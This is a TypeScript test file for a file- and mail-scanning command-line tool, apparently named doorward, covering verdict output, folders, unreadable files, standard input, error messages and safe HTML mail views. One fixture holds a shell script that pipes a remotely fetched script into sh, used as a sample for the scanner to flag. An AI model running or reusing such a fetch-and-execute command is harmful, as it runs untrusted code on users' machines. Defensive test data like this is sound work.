import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { after, before, describe, it } from "node:test";
import type { Verdict } from "@doorward/core";
import { expectRefusal, runCommand, useReaders, type TestSurroundings } from "../run-command.test-support.ts";

const fix = "#!/bin/sh\ncurl -s https://files.example/a.sh | sh\n";

function parse(output: string): Verdict[] {
  return output
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as Verdict);
}

function isReadable(path: string): boolean {
  try {
    return readFileSync(path).length > 0;
  } catch {
    return false;
  }
}

const readers = useReaders();
/** Most commands share readers; the first starts its own, as one does who types it. */
const run = async (words: readonly string[], around: TestSurroundings = {}) =>
  await runCommand(words, { readers, ...around });

describe("doorward file", () => {
  let folder = "";
  before(() => {
    folder = mkdtempSync(join(tmpdir(), "doorward-files-"));
    writeFileSync(join(folder, "note.txt"), "hello\n");
    mkdirSync(join(folder, "inside"));
    writeFileSync(join(folder, "inside/fix.command"), fix);
  });
  after(() => rmSync(folder, { recursive: true, force: true }));
  const at = (name: string) => join(folder, name);

  it("tells a verdict with what would happen, in plain text, with nothing to click on", async () => {
    const { status, output, errors } = await runCommand(["file", at("inside/fix.command")]);
    assert.notEqual(status, 0, output);
    assert.match(output, /What would happen/u);
    assert.match(output, /What to do now/u);
    assert.doesNotMatch(output, /https:\/\/files/u);
    assert.equal(errors, "");
  });

  it("judges every file of a folder, one object a line, in the order of the names", async () => {
    const { status, output } = await run(["file", "--json", folder]);
    const verdicts = parse(output);
    assert.deepEqual(
      verdicts.map(({ arrival, door }) => `${door} ${arrival.kind} ${arrival.name}`),
      ["support file fix.command", "support file note.txt"],
    );
    assert.equal(verdicts[1]?.verdict, "clear");
    assert.match(verdicts[1]?.arrival.sha256 ?? "", /^[\da-f]{64}$/u);
    assert.notEqual(status, 0);
  });

  it("judges the others where one of several cannot be opened, and says so of that one", async (test) => {
    const locked = join(folder, "locked.txt");
    writeFileSync(locked, "hello\n", { mode: 0o000 });
    try {
      if (isReadable(locked)) test.skip("whoever runs this may read everything");
      else {
        const { output } = await run(["file", "--json", locked, at("note.txt")]);
        const told = parse(output).map(({ arrival, verdict, because }) => `${arrival.name} ${verdict} ${because}`);
        assert.match(told[0] ?? "", /^locked\.txt check .*cannot be opened/u);
        assert.match(told[1] ?? "", /^note\.txt clear/u);
      }
    } finally {
      rmSync(locked);
    }
  });

  it("reads standard input", async () => {
    const { output } = await run(["file", "--json", "-"], { input: Readable.from([Buffer.from(fix)]) });
    assert.equal(parse(output)[0]?.arrival.name, "standard-input");
  });

  it("says what to do at the interview door", async () => {
    const [here] = parse((await run(["file", "--json", "--door", "interview", at("note.txt")])).output);
    assert.equal(here?.door, "interview");
  });

  it("refuses what it cannot judge, in one line that says what to do", async () => {
    const empty = Readable.from([]);
    const cases: readonly (readonly [readonly string[], number, string])[] = [
      [["file"], 64, "Name the file to judge"],
      [["file", "-", at("note.txt")], 64, "not both"],
      [["file", at("missing")], 66, "There is nothing at"],
      [["file", at("a".repeat(300))], 66, "cannot be opened (ENAMETOOLONG)"],
      [["file", "--door", "hiring", at("note.txt")], 64, "no door"],
      [["file", "--what", at("note.txt")], 64, "--what"],
      [["file", "--dns", at("missing"), at("note.txt")], 66, "no records"],
      [["file", "--dns", at("note.txt"), at("note.txt")], 66, "it is no JSON"],
      [["file", "-"], 66, "nothing on standard input"],
    ];
    for (const [words, status, told] of cases) expectRefusal(await run(words, { input: empty }), status, told);
  });

  it("explains rules about files, messages, links and code", async () => {
    const { status, output } = await run(["file", "--explain", "double-extension"]);
    assert.equal(status, 0);
    assert.match(output, /double-extension/u);
  });
});

function makeMail(number: number): string {
  return `From: a@b.example\nTo: c@d.example\nSubject: mail ${number}\n\nsee https://e.example/x\n\n`;
}

describe("doorward mail", () => {
  it("judges every mail of an mbox by its number", async () => {
    const mail = "From a@b.example Mon 08:00\nFrom: a@b.example\nTo: c@d.example\nSubject: one\n\nhello\n\n";
    const { output } = await run(["mail", "--json", "-"], { input: Readable.from([Buffer.from(mail + mail)]) });
    assert.deepEqual(
      parse(output).map(({ arrival }) => `${arrival.kind} ${arrival.name}`),
      ["message standard-input#1", "message standard-input#2"],
    );
  });

  it("writes a page that is safe to read, or a folder of them", async () => {
    const folder = mkdtempSync(join(tmpdir(), "doorward-views-"));
    try {
      const page = join(folder, "page.html");
      const one = await run(["mail", "--view", page, "-"], { input: Readable.from([Buffer.from(makeMail(1))]) });
      assert.equal(one.errors, "");
      assert.match(readFileSync(page, "utf8"), /^<!doctype html>[\s\S]*Content-Security-Policy[\s\S]*mail 1/iu);
      const line = "From a@b.example Mon Jan  5 10:00:00 2026\n";
      const box = Buffer.from(`${line}${makeMail(1)}${line}${makeMail(2)}`);
      await run(["mail", "--json", "--view", `${folder}/pages/`, "-"], { input: Readable.from([box]) });
      assert.deepEqual(readdirSync(join(folder, "pages")), [
        "00001-standard-input_1.html",
        "00002-standard-input_2.html",
      ]);
      const several = await run(["mail", "--view", page, "-"], { input: Readable.from([box]) });
      assert.match(several.errors, /name a folder/u);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  it("says that a file is no message", async () => {
    const { status, output } = await run(["mail", "--json", "-"], {
      input: Readable.from([Buffer.from("hello\n")]),
    });
    assert.equal(status, 1);
    assert.match(parse(output)[0]?.because ?? "", /no message of a known format/u);
  });
});
